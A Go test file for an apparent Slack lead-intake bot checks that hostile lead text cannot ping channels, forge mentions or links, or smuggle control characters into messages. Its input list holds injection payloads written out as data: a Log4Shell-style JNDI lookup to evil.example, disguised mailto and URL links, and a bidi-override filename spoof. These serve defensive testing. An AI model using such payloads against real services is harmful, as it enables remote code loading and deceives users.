package main

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
	"unicode"

	"github.com/tidwall/gjson"

	"leadpact/internal/sandbox"
)

// hostile are texts that would like to ping, to forge, to disguise, or to be
// too much.
var hostile = []string{
	"<!channel> <!here> <!everyone> <!subteam^S0SALES>",
	"<@U0GRETALIND> <#C0GENERAL001|general> @channel @here",
	"<http://evil.example|https://bank.example> <mailto:ceo@evil.example|boss>",
	"*bold* _italic_ ~gone~ `code` ```block``` > quote\n> second\n- list",
	"&lt;!channel&gt; &amp;lt; <!date^1^{date}|x> |pipe|",
	"abc\u202egnp.exe\u202c \u2066isolate\u2069 \u200b\u200fmark",
	"nul\x00bell\a\x1besc\x7f\u0085\ufffe end",
	strings.Repeat("😀", 5000),
	strings.Repeat("W", 5000),
	strings.Repeat("<", 5000), strings.Repeat("&", 5000),
	strings.Repeat("\n", 500) + "end",
	"👩‍👩‍👧‍👦🏳️‍🌈" + strings.Repeat("e\u0301\u0302", 900),
	`"quotes" and \backslashes\ {"json": true} ${jndi:ldap://evil.example/a}`,
	":rotating_light: :smile:", "\u2028line\u2029paragraph", "   ",
}

// forged is what may never stand in a message, since only we may write it.
var forged = []string{
	"<!channel", "<!here", "<!everyone", "<!subteam", "<@U0GRETALIND", "<#C0GENERAL001", "<http://evil.example", "<mailto:ceo@evil",
}

func TestHostileTextPingsNobodyForgesNothingAndBreaksNoLimit(t *testing.T) {
	t.Parallel()
	w := aSandbox(t)
	var taken []string
	for i, text := range hostile {
		for _, field := range []string{"name", "action", "message", "links", "some field", ""} {
			body := somebody(hot)
			if field == "" { // everywhere at once, also in the key
				for _, f := range []string{"name", "company", "title", "campaign", "message", "source", "country"} {
					body[f] = text
				}
				body["extra "+text] = text
			} else {
				body[field] = text
			}
			if field == "links" {
				body[field] = []string{"https://kessel.example/" + text}
			}
			got, err := w.tries(body)
			expect(t, err)
			switch got.Status {
			case http.StatusOK:
				taken = append(taken, got.Results[0].Lead)
			case http.StatusBadRequest: // refused, with the field's name
				if len(got.Errors) == 0 || got.Errors[0].Field == "" {
					t.Errorf("text %d in %q is refused without a field's name: %+v", i, field, got)
				}
			default:
				t.Fatalf("text %d in %q: %+v", i, field, got)
			}
		}
	}
	if len(taken) < len(hostile)*3 {
		t.Errorf("only %d leads were taken in", len(taken))
	}
	w.settles(taken, 1)
	w.workOnAll(taken)
	w.refusedNothing()
	for _, who := range []string{"ana", "ben"} {
		for _, m := range w.messages(salesLeads, who) {
			expect(t, harmless(shown(m)))
		}
	}
}

// workOnAll has people do everything with leads that they can.
func (w *world) workOnAll(leads []string) {
	w.workspace.t.Helper()
	cards := map[string]sandbox.Message{}
	for _, m := range w.messages(salesLeads, "") {
		cards[leadOn(m)] = m
	}
	for i, id := range leads {
		card := cards[id]
		expect(w.workspace.t, harmless(w.isTold("ana", "lead "+id)))
		if i%4 > 0 {
			continue
		}
		w.clicks("ana", card, "claim")
		w.clicks("ben", card, "claim")
		w.clicks("ana", w.expectCard(id, "took it"), "release")
		w.expectCard(id, "Waiting since")
	}
}

// harmless checks a message for what only we may write, and for what disguises.
func harmless(text string) error {
	for _, f := range forged {
		if strings.Contains(text, f) {
			return fmt.Errorf("a message says %q:\n%s", f, text)
		}
	}
	for _, r := range text {
		if unicode.Is(unicode.Bidi_Control, r) || unicode.IsControl(r) && r != '\n' && r != '\t' {
			return fmt.Errorf("a message holds %U:\n%q", r, text)
		}
	}
	return nil
}

// refusedNothing checks that the workspace has refused no call of the bot.
func (w *workspace) refusedNothing() {
	w.t.Helper()
	for _, c := range w.calls("") {
		if ok := gjson.GetBytes(c.Answer, "ok"); c.Fault == "" && ok.Exists() && !ok.Bool() {
			w.t.Fatalf("the workspace refused %s: %s\n%s", c.Method, c.Answer, c.Arguments)
		}
	}
	if n := w.state().OversizedFrames; n > 0 {
		w.t.Errorf("%d frames of the bot were too large", n)
	}
}
